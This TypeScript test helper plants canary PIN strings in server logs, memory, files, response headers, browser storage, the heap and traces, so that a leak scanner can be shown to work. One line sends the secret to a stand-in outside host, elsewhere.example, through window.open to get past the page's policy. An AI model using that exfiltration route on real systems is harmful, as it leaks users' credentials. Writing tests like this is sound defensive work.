// A leak planted in each place, so that a search that finds nothing is known to be able to find something.
import type { Page } from 'playwright-core';
import type { Devtools, HeapTarget } from './devtools.ts';
import type { CanaryPins } from './needles.ts';
import type { Office } from './office.ts';

const text = ({ signature, authentication }: CanaryPins): string => `planted ${signature} "${authentication}"`;

/** The server's log, its memory, its files (one of them packed) and what it answers. */
export async function plantInServer(office: Office, pins: CanaryPins): Promise<void> {
  const debug = await office.debug();
  try {
    const planted = JSON.stringify(text(pins));
    await debug.evaluate(`{
      globalThis.planted = ${planted};
      console.log(globalThis.planted);
      const [fs, zlib, http] = ['node:fs', 'node:zlib', 'node:http'].map((name) => process.getBuiltinModule(name));
      fs.writeFileSync(${JSON.stringify(`${office.dataFolder}/planted.gz`)}, zlib.gzipSync(globalThis.planted));
      const { writeHead } = http.ServerResponse.prototype;
      http.ServerResponse.prototype.writeHead = function (...words) {
        this.setHeader('x-planted', globalThis.planted);
        return writeHead.apply(this, words);
      };
    }`);
  } finally {
    debug.close();
  }
}

/** A request of ours, one to elsewhere, the console, the stores, the document. */
export async function plantInPage(page: Page, pins: CanaryPins): Promise<void> {
  await page.evaluate(async (planted) => {
    console.log(planted);
    localStorage.setItem('planted', planted);
    document.body.append(Object.assign(document.createElement('p'), { textContent: planted }));
    await (await caches.open('planted')).put('/planted', new Response(planted));
    await new Promise<void>((resolve) => {
      const opening = indexedDB.open('planted', 1);
      opening.onupgradeneeded = () => opening.result.createObjectStore('records');
      opening.onsuccess = () => {
        const writing = opening.result.transaction('records', 'readwrite');
        // As bytes: the way in which a PIN travels to the worker.
        writing.objectStore('records').put({ planted: new TextEncoder().encode(planted), pin: planted.slice(-5, -1) }, 'leak');
        writing.oncomplete = () => (opening.result.close(), resolve());
      };
    });
    await fetch('/trpc/planted', { method: 'POST', body: btoa(planted) + planted.slice(-6) });
    // The page's policy lets no request go elsewhere; it cannot forbid a link.
    window.open(`http://elsewhere.example/?${encodeURIComponent(planted)}`);
  }, text(pins));
}

/** A string in the heap of a page or a worker, and commands as a driver would leave them, put together there so that no string holds them. */
export async function plantInHeap(devtools: Devtools, { sessionId }: HeapTarget, pins: CanaryPins): Promise<void> {
  await devtools.evaluate(
    `{
      globalThis.planted = ${JSON.stringify(text(pins))};
      const command = (pin) => Uint8Array.of(0x00, 0x20, 0x00, 0x80, pin.length, ...new TextEncoder().encode(pin));
      globalThis.plantedCommands = [globalThis.planted.slice(8, -7), globalThis.planted.slice(-5, -1)].map(command);
    }`,
    sessionId,
  );
}

/** A record as it would be if the PIN were not masked in it. */
export function plantInTrace(trace: Buffer, { signature, authentication }: CanaryPins): Buffer {
  const hex = (pin: string): string => Buffer.from(pin, 'latin1').toString('hex');
  return Buffer.concat([trace, Buffer.from(`\n{"command":"002000800c${hex(signature)}"}\n{"command":"0020008004${hex(authentication)}"}`)]);
}
